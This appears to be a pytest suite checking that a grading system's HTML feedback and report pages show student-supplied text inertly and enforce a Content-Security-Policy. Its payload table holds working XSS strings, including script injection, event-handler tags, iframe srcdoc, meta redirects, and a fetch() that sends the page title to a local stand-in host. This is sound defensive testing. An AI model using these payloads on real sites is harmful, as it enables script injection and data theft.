"""In a browser, what a student wrote into a page is text: nothing runs, loads or navigates. The same text can."""

import io
import re
from dataclasses import replace

import pytest
from copydetect import CodeFingerprint

from dgm_course.homework.course import Homework, Task, homework
from grading.pipeline.grades.course_total import CourseTotal
from grading.pipeline.grades.ledger import Ledger
from grading.pipeline.marking.results import Result, TaskResult, TestResult
from grading.pipeline.marking.submission import grade_submission
from grading.pipeline.material.attacks import ATTACKS, attack
from grading.pipeline.pages.feedback import write_feedback
from grading.pipeline.pages.report import report_page, write_report
from grading.pipeline.pages.similarity import Pair
from grading.sandbox.client import Sandbox

STEAL = "window.top.stolen = 1; console.log(1); alert(1); fetch('http://127.0.0.1:9/?' + document.title)"
# What runs or loads where it stands as HTML, and what of it a browser would show.
PAYLOADS = {
    "script": (f"<script>{STEAL}</script>", "marker"),
    "out of everything": (f"</pre></style></title></script>--><script>{STEAL}</script>", "marker"),
    "picture": (f'<img src=x onerror="{STEAL}">', "marker"),
    "drawing": (f'<svg onload="{STEAL}"><circle r="1"/></svg>', "marker"),
    "fold": (f'</details><details open ontoggle="{STEAL}">x</details>', "marker"),
    "focus": (f'"><input autofocus onfocus="{STEAL}">', "marker"),
    "frame": (f'<iframe srcdoc="<script>{STEAL}</script>"></iframe>', "marker"),
    "redirection": ('<meta http-equiv=refresh content="0;url=#stolen">', "navigation"),
    "style": ("<link rel=stylesheet href='http://127.0.0.1:9/style'>", "request"),
    "background": ("<b style=\"background: url('http://127.0.0.1:9/image')\">x</b>", "request"),
}
ALL = " ".join(payload for payload, _ in PAYLOADS.values())
RUNS_OR_LOADS = "script, iframe, object, embed, form, link, base, input, [style*=url]"
SCRIPTED = [path for path in sorted(ATTACKS.glob("*/*/*.py")) if "alert(" in path.read_text(encoding="utf-8")]


@pytest.mark.parametrize("name", PAYLOADS)
def test_what_is_smuggled_would_run_elsewhere(watched, tmp_path, name):
    payload, trace = PAYLOADS[name]
    page = tmp_path / "unsanitised.html"
    page.write_text(f"<!DOCTYPE html><title>x</title><body>{payload}", encoding="utf-8")
    assert trace in watched.open(page).kinds


def poisoned(data, text):
    """Every string of a result replaced, but for those that say what kind of output it is."""
    match data:
        case str():
            return text
        case dict():
            return {k: v if k in ("output_type", "homework") else poisoned(v, text) for k, v in data.items()}
        case list() | tuple():
            return [poisoned(item, text) for item in data]
    return data


@pytest.fixture
def result():
    """Two tasks, each with a test that holds and one that does not."""
    tests = (TestResult("a", "a", 2, True), TestResult("b", "b", 3, False, "b", "b", "b", "b", "property"))
    tasks = (TaskResult("count", 1, "Counting", 5, tests), TaskResult("sum", 2, "Summing", 5, tests))
    return Result("hw1", "mallory", 10.0, tasks, (), "landlock", *(4 * ["0" * 64]))


@pytest.fixture
def hostile(result):
    """A homework and a result in which every text is an attack, with outputs of every kind."""
    kinds = (
        "text/plain",
        "text/html",
        "image/svg+xml",
        "image/png",
        "application/javascript",
        "text/markdown",
    )
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": ""},
        {"output_type": "error", "ename": "", "evalue": "", "traceback": [""]},
        *({"output_type": "display_data", "data": {kind: ""}, "metadata": {}} for kind in kinds),
    ]
    count, total = result.tasks
    tasks = (replace(count, misconception="", outputs=tuple(outputs)), replace(total, misconception=""))
    data = poisoned(replace(result, tasks=tasks, notes=("",)).to_dict(), ALL)
    names = [f"{ALL} {number}" for number in (1, 2)]
    for task, name in zip(data["tasks"], names, strict=True):
        task["id"] = name
    data["tasks"][1]["follow_through"] = names[:1]
    work = Homework("hw1", ALL, ALL, tuple(Task(n, name, ALL, 5) for n, name in enumerate(names, 1)))
    ledger = Ledger(dict.fromkeys(names, 1.0), dict.fromkeys(names, ALL), None, 3600.0, 1.0)
    return work, Result.from_dict(data), ledger


def test_a_page_of_nothing_but_attacks_is_text(watched, hostile, tmp_path):
    work, result, ledger = hostile
    watched.open(write_feedback(tmp_path, work, replace(result, student="mallory"), ledger))
    assert watched.seen == []
    for payload, _ in PAYLOADS.values():
        assert watched.text.count(payload) > 20
    assert watched.page.locator(f"{RUNS_OR_LOADS}, img").count() == 0


@pytest.mark.filterwarnings("ignore:constrained_layout")  # names this long leave the pictures no room
def test_a_report_on_nothing_but_attacks_is_text(watched, hostile, tmp_path):
    work, result, ledger = hostile
    cell = CodeFingerprint("cell", 5, win_size=1, language="python", fp=io.StringIO(ALL))
    name = result.tasks[0].id
    pair = Pair((ALL, ALL), 1.0, {name: 1.0}, name, (cell, cell))
    total = CourseTotal(ALL, {ALL: 1.0}, 1.0, 1.0)
    write_report(tmp_path / "report.html", report_page(work, [result], {ALL: ledger}, [pair], [total]))
    watched.open(tmp_path / "report.html")
    assert watched.seen == []
    for payload, _ in PAYLOADS.values():
        assert watched.text.count(payload) > 10
    assert watched.page.locator("pre").all_text_contents() == [ALL, ALL]
    assert watched.page.locator(RUNS_OR_LOADS).count() == 0
    drawn = "images => images.map(image => image.naturalWidth > 0 && image.src.startsWith('data:'))"
    assert watched.page.locator("img").evaluate_all(drawn) == [True] * 3


def test_even_a_script_that_got_in_would_not_run(watched, result: Result, tmp_path):
    page = write_feedback(tmp_path, homework("hw1"), result)
    policy = re.search(
        r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page.read_text("utf-8")
    )
    assert policy
    assert {"default-src 'none'", "img-src data:"} <= set(policy[1].split("; "))
    page.write_text(page.read_text("utf-8").replace("<h1>", f"{ALL}<h1>"), encoding="utf-8")
    watched.open(page)
    assert {"marker", "dialog", "request"}.isdisjoint(watched.kinds)
    assert len([each for each in watched.seen if "Content Security Policy" in each]) >= 6


@pytest.fixture(scope="module")
def sandbox():
    with Sandbox() as started:
        yield started


@pytest.mark.parametrize("path", SCRIPTED, ids=[path.stem for path in SCRIPTED])
def test_an_attack_of_the_bank_is_text(watched, sandbox, tmp_path, path):
    work = homework("hw1")
    tasks = tuple(map(work.task, ("histogram", "made")))
    result = grade_submission(work, "mallory", attack(work, path), sandbox, bytes(32), tasks)
    watched.open(write_feedback(tmp_path, work, result))
    assert watched.seen == []
    assert "Autoregressive models" in watched.text
    if path.parent.name == "cells":
        assert "alert(1)" in watched.text or path.stem == "disguised_picture"
